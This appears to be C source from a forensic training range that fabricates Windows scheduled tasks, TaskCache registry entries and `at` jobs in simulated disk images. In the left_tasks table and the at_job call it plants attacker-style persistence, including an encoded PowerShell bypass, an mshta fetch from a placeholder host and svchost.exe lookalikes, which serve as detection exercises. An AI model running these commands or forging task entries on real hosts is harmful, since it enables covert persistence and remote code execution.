/* Scheduled tasks: the XML file, its keys in the task cache, and jobs of `at`.
 *
 * Source    names, handlers and triggers of Windows' own tasks as published systems list them; the cache's binary values as public
 *           descriptions of Actions, Triggers and DynamicInfo give them. */
#include "range/host.h"

#include "range/put.h"

#include <strings.h>

#define MS     "\\Microsoft\\Windows\\"
#define SYS    "S-1-5-18"
#define LOCAL  "S-1-5-19"
#define USERS  "S-1-5-32-545"
#define ADMINS "S-1-5-32-544"

static const char *escaped(estate *e, const char *text)
{
    buf b;
    buf_init(&b, 1 << 16);
    for (const char *p = text; *p; p++)
        if (*p == '&')
            buf_str(&b, "&amp;");
        else if (*p == '<')
            buf_str(&b, "&lt;");
        else if (*p == '>')
            buf_str(&b, "&gt;");
        else
            buf_char(&b, *p);
    char *out = arena_text(e->mem, buf_bytes(&b));
    buf_done(&b);
    return out;
}

static const char *local_time(estate *e, moment t)
{
    char text[MOMENT_TEXT];
    moment_iso(t + (moment)((int64_t)e->w->zone_minutes * (int64_t)MOMENT_MINUTE), text);
    return host_print(e, "%.19s", text);
}

static const char *task_xml(estate *e, const task *t)
{
    bool group = strcmp(t->user, "S-1-5-32-544") == 0 || strcmp(t->user, "S-1-5-32-545") == 0 || strcmp(t->user, "S-1-5-4") == 0;
    const char
        *when = local_time(e, t->at),
        *trigger =
            t->boot    ? "    <BootTrigger>\r\n      <Enabled>true</Enabled>\r\n    </BootTrigger>\r\n"
            : t->logon ? "    <LogonTrigger>\r\n      <Enabled>true</Enabled>\r\n    </LogonTrigger>\r\n"
            : t->interval
                ? host_print(e,
                             "    <TimeTrigger>\r\n      <Repetition>\r\n        <Interval>%s</Interval>\r\n        "
                             "<StopAtDurationEnd>false</StopAtDurationEnd>\r\n      </Repetition>\r\n      "
                             "<StartBoundary>%s</StartBoundary>\r\n      <Enabled>true</Enabled>\r\n    </TimeTrigger>\r\n",
                             t->interval, when)
                : host_print(
                    e,
                    "    <CalendarTrigger>\r\n      <StartBoundary>%s</StartBoundary>\r\n      <Enabled>true</Enabled>\r\n      "
                    "<ScheduleByDay>\r\n        <DaysInterval>1</DaysInterval>\r\n      </ScheduleByDay>\r\n    </CalendarTrigger>\r\n",
                    when),
        *action = t->clsid ? host_print(e, "    <ComHandler>\r\n      <ClassId>%s</ClassId>\r\n    </ComHandler>\r\n", t->clsid)
                           : host_print(e, "    <Exec>\r\n      <Command>%s</Command>\r\n%s    </Exec>\r\n", escaped(e, t->command),
                                        t->arguments && *t->arguments
                                            ? host_print(e, "      <Arguments>%s</Arguments>\r\n", escaped(e, t->arguments))
                                            : "");
    return host_print(
        e,
        "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task version=\"1.%d\" "
        "xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">\r\n  <RegistrationInfo>\r\n%s    <Author>%s</Author>\r\n    "
        "<URI>%s</URI>\r\n  </RegistrationInfo>\r\n"
        "  <Triggers>\r\n%s  </Triggers>\r\n  <Principals>\r\n    <Principal id=\"Author\">\r\n%s      <%s>%s</%s>\r\n    </Principal>\r\n "
        " </Principals>\r\n  <Settings>\r\n    <MultipleInstancesPolicy>IgnoreNew</MultipleInstancesPolicy>\r\n"
        "    <DisallowStartIfOnBatteries>false</DisallowStartIfOnBatteries>\r\n    <Hidden>%s</Hidden>\r\n    <Enabled>true</Enabled>\r\n  "
        "</Settings>\r\n  <Actions Context=\"Author\">\r\n%s  </Actions>\r\n</Task>",
        e->h->nt == NT_60   ? 2
        : e->h->nt <= NT_61 ? 3
                            : 4,
        t->clsid ? "" : host_print(e, "    <Date>%s</Date>\r\n", when), t->author, t->path, trigger,
        t->highest ? "      <RunLevel>HighestAvailable</RunLevel>\r\n" : "", group ? "GroupId" : "UserId", t->user,
        group ? "GroupId" : "UserId", t->hidden ? "true" : "false", action);
}

static void put_counted(buf *b, const char *text) /* length in bytes, then UTF-16 */
{
    buf one;
    buf_init(&one, 1 << 16);
    put_utf16(&one, span_str(text ? text : ""));
    put32(b, (uint32_t)one.len);
    buf_span(b, buf_bytes(&one));
    buf_done(&one);
}
static void pad(buf *b)
{
    while (b->len % 8)
        put8(b, 0x48);
}
static void put_aligned(buf *b, uint32_t v)
{
    put32(b, v);
    pad(b);
}
static void put_flag(buf *b, bool v)
{
    put8(b, v);
    pad(b);
}
static void put_when(buf *b, moment t)
{
    put_flag(b, moment_known(t));
    put64(b, moment_known(t) ? t : UINT64_MAX);
}

static void put_wide_text(buf *b, const char *text)
{
    put_aligned(b, 2 * (uint32_t)strlen(text));
    put_utf16(b, span_str(text));
    pad(b);
}

static uint32_t seconds_of(const char *interval) /* "PT50M", "P1D" */
{
    uint32_t n = interval ? (uint32_t)strtoul(interval + strcspn(interval, "0123456789"), NULL, 10) : 0;
    return !interval ? 0 : strchr(interval, 'D') ? n * 86400 : strchr(interval, 'H') ? n * 3600 : n * 60;
}

static void cache_actions(estate *e, hive *h, hive_key *k, const task *t)
{
    buf b;
    buf_init(&b, 1 << 18);
    unsigned version = e->h->nt <= NT_61 ? 1 : 3;
    put16(&b, version);
    if (version == 3)
        put_counted(&b, "Author");
    put16(&b, t->clsid ? 0x7777 : 0x6666);
    put_counted(&b, "");
    if (t->clsid) {
        unsigned long v[11];
        char digits[3] = { 0 };
        const char *g = t->clsid + 1;
        v[0] = strtoul(g, NULL, 16);
        put32(&b, (uint32_t)v[0]);
        put16(&b, (unsigned)strtoul(g + 9, NULL, 16));
        put16(&b, (unsigned)strtoul(g + 14, NULL, 16));
        for (int i = 0; i < 8; i++) {
            const char *p = g + (i < 2 ? 19 + 2 * i : 24 + 2 * (i - 2));
            memcpy(digits, p, 2);
            put8(&b, (unsigned)strtoul(digits, NULL, 16));
        }
        put_counted(&b, "");
    } else {
        put_counted(&b, t->command);
        put_counted(&b, t->arguments);
        put_counted(&b, "");
        if (version == 3)
            put16(&b, 0);
    }
    hive_binary(h, k, "Actions", buf_bytes(&b));
    buf_done(&b);
}

static void cache_triggers(estate *e, hive *h, hive_key *k, const task *t, uint32_t crc)
{
    buf b;
    buf_init(&b, 1 << 16);
    unsigned version = e->h->nt <= NT_61 ? 0x15 : e->h->nt == NT_62 ? 0x16 : 0x17;
    moment start = t->at + (moment)((int64_t)e->w->zone_minutes * (int64_t)MOMENT_MINUTE);
    put_flag(&b, false);
    b.at[0] = (uint8_t)version;
    put_when(&b, t->boot || t->logon ? MOMENT_UNKNOWN : start);
    put_when(&b, MOMENT_UNKNOWN);
    put_aligned(&b, 0x400000 | (t->hidden ? 0x800000 : 0) | (t->highest ? 0x1000000 : 0));
    put_aligned(&b, crc);
    if (version >= 0x16)
        put_wide_text(&b, "Author");
    if (version >= 0x17)
        put_wide_text(&b, "");
    span sid = host_sid(e->mem, t->user);
    put_flag(&b, false);
    put_flag(&b, false);
    put_aligned(&b, strncmp(t->user, "S-1-5-21", 8) == 0 ? 1 : strncmp(t->user, "S-1-5-32", 8) == 0 ? 4 : 5); /* user, alias, well known */
    put_aligned(&b, (uint32_t)sid.len);
    buf_span(&b, sid);
    pad(&b);
    put_aligned(&b, 0);
    put_aligned(&b, 0x2c);
    put32(&b, 600);
    put32(&b, 3600);
    put32(&b, 259200);
    put32(&b, UINT32_MAX);
    put32(&b, 7);
    put_zeros(&b, 24);
    pad(&b);
    put_aligned(&b, t->boot ? 0xffff : t->logon ? 0xaaaa : 0xdddd);
    if (t->boot || t->logon) {
        put_when(&b, MOMENT_UNKNOWN);
        put_when(&b, MOMENT_UNKNOWN);
        put32(&b, 0);
        put32(&b, UINT32_MAX);
        put_zeros(&b, 12);
        put32(&b, 0);
        put_flag(&b, true);
        put_zeros(&b, 8);
    } else {
        put_when(&b, start);
        put_when(&b, MOMENT_UNKNOWN);
        put_when(&b, start);
        put32(&b, seconds_of(t->interval));
        put32(&b, t->interval ? UINT32_MAX : 0);
        put32(&b, UINT32_MAX);
        put32(&b, t->interval ? 0 : 1);
        put16(&b, 1);
        put_zeros(&b, 6);
        put8(&b, 0);
        put8(&b, 1);
        put16(&b, 0);
        put32(&b, 0);
        put32(&b, 0);
        put32(&b, 0);
    }
    if (version >= 0x16) {
        put_counted(&b, "");
        pad(&b);
    }
    if (t->logon)
        put_flag(&b, true); /* of any user */
    hive_binary(h, k, "Triggers", buf_bytes(&b));
    buf_done(&b);
}

static void cache_entry(estate *e, const task *t, span xml)
{
    hive *h = e->hives[HIVE_SOFTWARE];
    hive_key *cache = hive_at(h, e->nt, "Schedule\\TaskCache"), *k = hive_at(h, cache, host_print(e, "Tasks\\%s", t->guid));
    uint8_t hash[32];
    buf info;
    buf_init(&info, 64);
    hive_clock(h, t->at);
    sha256_of(xml, hash);
    hive_sz(h, k, "Path", t->path);
    if (e->h->nt == NT_60)
        hive_binary(h, k, "Hash", span_of(&(uint32_t){ crc32_of(xml) }, 4));
    else
        hive_binary(h, k, "Hash", span_of(hash, 32));
    if (e->h->nt >= NT_62) {
        hive_dword(h, k, "Schema", 0x10004);
        hive_sz(h, k, "Author", t->author);
        hive_sz(h, k, "URI", t->path);
        if (!t->clsid)
            hive_sz(h, k, "Date", local_time(e, t->at));
    }
    cache_triggers(e, h, k, t, crc32_of(xml));
    cache_actions(e, h, k, t);
    put32(&info, 3);
    put64(&info, t->at);
    put64(&info, 0);
    put32(&info, 0);
    put32(&info, 0);
    if (e->h->nt >= NT_62)
        put64(&info, 0);
    hive_binary(h, k, "DynamicInfo", buf_bytes(&info));
    buf_done(&info);
    hive_at(h, cache, host_print(e, "%s\\%s", t->boot ? "Boot" : t->logon ? "Logon" : "Plain", t->guid));
    if (t->no_tree)
        return;
    k = hive_at(h, cache, host_print(e, "Tree%s", t->path));
    hive_sz(h, k, "Id", t->guid);
    hive_dword(h, k, "Index", t->index_zero ? 0 : t->boot ? 1 : t->logon ? 2 : 3);
    if (!t->no_descriptor)
        hive_binary(h, k, "SD",
                    host_descriptor(e->mem, (const char *const[]){ "S-1-5-32-544", "S-1-5-18", "S-1-5-11" },
                                    (const uint32_t[]){ 0x1f01ff, 0x1f01ff, 0x120089 }, 3));
}

void host_task(estate *e, const task *given)
{
    task t = *given;
    buf b;
    buf_init(&b, 1 << 18);
    if (!t.guid)
        t.guid = host_guid(e, host_print(e, "task %s", t.path));
    if (!t.author)
        t.author = "Microsoft Corporation";
    put_utf16(&b, span_str(task_xml(e, &t)));
    cache_entry(e, &t, buf_bytes(&b));
    if (!t.no_file) {
        buf file;
        buf_init(&file, 1 << 18);
        put16(&file, 0xfeff);
        buf_span(&file, buf_bytes(&b));
        const char *below = strncasecmp(t.path, MS, strlen(MS)) == 0 ? host_print(e, "%s%s", MS, t.path + strlen(MS))
                                                                     : t.path; /* one folder, however it is written */
        char *path = arena_str(e->mem, host_print(e, "Windows/System32/Tasks%s", below));
        for (char *p = path; *p; p++)
            if (*p == '\\')
                *p = '/';
        host_file(e, path, buf_bytes(&file));
        buf_done(&file);
    }
    buf_done(&b);
}

typedef struct {
    const char *path;
    int from, to;
    const char *command, *arguments, *clsid, *user, *interval;
    unsigned when;
} stock_task; /* when: 1 boot, 2 logon, 4 hidden, 8 highest */
#define TASK(...) { __VA_ARGS__ },
static const stock_task stock_tasks[] = {
#include "range/data/tasks.def"
};

/* A job of `at`: fixed part, five counted texts, one trigger. */
static void at_job(estate *e, unsigned number, const char *program, const char *arguments, moment at)
{
    buf b;
    buf_init(&b, 1 << 16);
    moment_parts p = moment_to_parts(at + (moment)((int64_t)e->w->zone_minutes * (int64_t)MOMENT_MINUTE));
    const char *const texts[] = { program, arguments, "", "SYSTEM", "Created by NetScheduleJobAdd." };
    put16(&b, e->h->nt == NT_60 ? 0x0600 : 0x0601);
    put16(&b, 1);
    for (int i = 0; i < 16; i++)
        put8(&b, (unsigned)rng_next(&e->plant) & 255);
    put16(&b, 70);
    size_t triggers = b.len;
    put16(&b, 0);
    put16(&b, 0);
    put16(&b, 0);
    put16(&b, 60);
    put16(&b, 10);
    put32(&b, 0x20);
    put32(&b, 259200000);
    put32(&b, 0);
    put32(&b, 0x41303);
    put32(&b, 0);
    put_zeros(&b, 16);
    put16(&b, 0);
    for (size_t i = 0; i < 5; i++) {
        buf one;
        buf_init(&one, 1 << 14);
        put_utf16(&one, span_str(texts[i]));
        put16(&b, (unsigned)one.len / 2 + 1);
        buf_span(&b, buf_bytes(&one));
        put16(&b, 0);
        buf_done(&one);
    }
    put16(&b, 0);
    put16(&b, 8);
    put64(&b, 0);
    b.at[triggers] = (uint8_t)b.len;
    b.at[triggers + 1] = (uint8_t)(b.len >> 8);
    put16(&b, 1);
    put16(&b, 48);
    put16(&b, 0);
    put16(&b, (unsigned)p.year);
    put16(&b, (unsigned)p.month);
    put16(&b, (unsigned)p.day);
    put_zeros(&b, 6);
    put16(&b, (unsigned)p.hour);
    put16(&b, (unsigned)p.minute);
    put32(&b, 0);
    put32(&b, 0);
    put32(&b, 0);
    put32(&b, 1);
    put16(&b, 1);
    put_zeros(&b, 10);
    host_file(e, host_print(e, "Windows/Tasks/At%u.job", number), buf_bytes(&b));
    buf_done(&b);
}

/* The owner's tasks, as life.c runs them. */
static void owners_tasks(estate *e)
{
    static const struct {
        const char *en, *zh, *command, *arguments, *interval;
    } all[] = { { "\\DB log archive", "\\数据库日志归档", "D:\\Tools\\archive.cmd", "", "PT60M" },
                { "\\Disk report", "\\磁盘空间巡检", "powershell.exe", "-NoProfile -File D:\\Tools\\diskreport.ps1", "PT720M" },
                { "\\Backup to share", "\\备份上传", "D:\\Tools\\robocopy_backup.bat", "", "P1D" } };
    for (size_t i = 0; i < 3; i++) {
        const char *name = e->h->zh ? all[i].zh : all[i].en;
        moment at = e->installed + (20 + 7 * i) * MOMENT_DAY;
        host_task(e, &(task){ .path = name,
                              .command = all[i].command,
                              .arguments = all[i].arguments,
                              .user = SYS,
                              .interval = all[i].interval,
                              .author = host_print(e, "%s\\%s", e->h->name, e->h->admin),
                              .at = at,
                              .highest = true });
        told_planted(e, (planted){ .kind = "task",
                                   .location = host_print(e, "Windows/System32/Tasks%s", name),
                                   .value = "",
                                   .name = name,
                                   .command = *all[i].arguments ? host_print(e, "%s %s", all[i].command, all[i].arguments) : all[i].command,
                                   .file = all[i].command,
                                   .technique = "T1053.005",
                                   .at = at });
    }
    if (e->h->sql)
        host_task(e, &(task){ .path = "\\SQL maintenance",
                              .command = "C:\\Program Files\\Microsoft SQL Server\\100\\Tools\\Binn\\SQLCMD.EXE",
                              .arguments = "-E -i D:\\Tools\\reindex.sql",
                              .user = SYS,
                              .interval = "P7D",
                              .author = host_print(e, "%s\\%s", e->h->name, e->h->admin),
                              .at = e->installed + 30 * MOMENT_DAY });
}

/* What the logs say was registered. */
static void left_tasks(estate *e)
{
    static const struct {
        const char *path, *command, *arguments, *interval;
    } known[] = { { "\\Ddrivers", "C:\\Windows\\System32\\drivers\\svchost.exe", "", "PT60M" },
                  { "\\WebServers", "C:\\Windows\\System32\\wmiex.exe", "", "PT60M" },
                  { "\\DnsScan", "C:\\Windows\\Temp\\svchost.exe", "", "PT60M" },
                  { "\\Microsoft\\windows\\Bluetooths", "powershell", "-ep bypass -e " ENCODED, "PT50M" },
                  { "\\SysUpdate", "mshta.exe", "http://update.invalid/a.hta", "P1D" } };
    for (size_t i = 0; i < e->w->lefts.count; i++) {
        const left *l = vec_at(&e->w->lefts, i);
        for (size_t j = 0; j < sizeof known / sizeof *known; j++) {
            if (l->host != e->h->index || l->kind != LEFT_TASK || !moment_known(l->at) || strcmp(known[j].path, l->name) != 0)
                continue;
            host_task(e, &(task){ .path = l->name,
                                  .command = known[j].command,
                                  .arguments = known[j].arguments,
                                  .user = SYS,
                                  .interval = known[j].interval,
                                  .author = host_print(e, "%s\\%s$", e->w->domain, e->computer),
                                  .at = host_clock(e, l->at),
                                  .highest = true });
            told_planted(e, (planted){ .kind = "task",
                                       .location = host_print(e, "Windows/System32/Tasks%s", l->name),
                                       .value = "",
                                       .name = l->name,
                                       .command = *known[j].arguments ? host_print(e, "%s %s", known[j].command, known[j].arguments)
                                                                      : known[j].command,
                                       .file = known[j].command,
                                       .technique = "T1053.005",
                                       .hostile = true,
                                       .at = host_clock(e, l->at) });
        }
    }
}

void host_tasks(estate *e)
{
    for (size_t i = 0; i < sizeof stock_tasks / sizeof *stock_tasks; i++) {
        const stock_task *s = &stock_tasks[i];
        if (s->from > (int)e->h->nt || s->to < (int)e->h->nt)
            continue;
        host_task(e, &(task){ .path = s->path,
                              .command = s->command,
                              .arguments = s->arguments,
                              .clsid = s->clsid,
                              .user = s->user,
                              .interval = s->interval,
                              .at = e->installed + (i + 1) * MOMENT_SECOND,
                              .boot = s->when & 1,
                              .logon = s->when & 2,
                              .hidden = s->when & 4,
                              .highest = s->when & 8 });
    }
    owners_tasks(e);
    left_tasks(e);
    if (e->h->nt <= NT_61 && e->h->step >= 0 && e->w->seed != 1 && rng_chance(&e->plant, 30)) {
        moment at = host_clock(e, e->w->steps[e->h->step].success) + 10 * MOMENT_MINUTE;
        if (at < e->end) {
            at_job(e, 1, "cmd.exe", "/c c:\\windows\\temp\\svchost.exe", at);
            told_planted(e, (planted){ .kind = "task-job",
                                       .location = "Windows/Tasks/At1.job",
                                       .value = "",
                                       .name = "At1.job",
                                       .command = "cmd.exe /c c:\\windows\\temp\\svchost.exe",
                                       .file = "c:\\windows\\temp\\svchost.exe",
                                       .technique = "T1053.002",
                                       .hostile = true,
                                       .at = at });
        }
    }
}
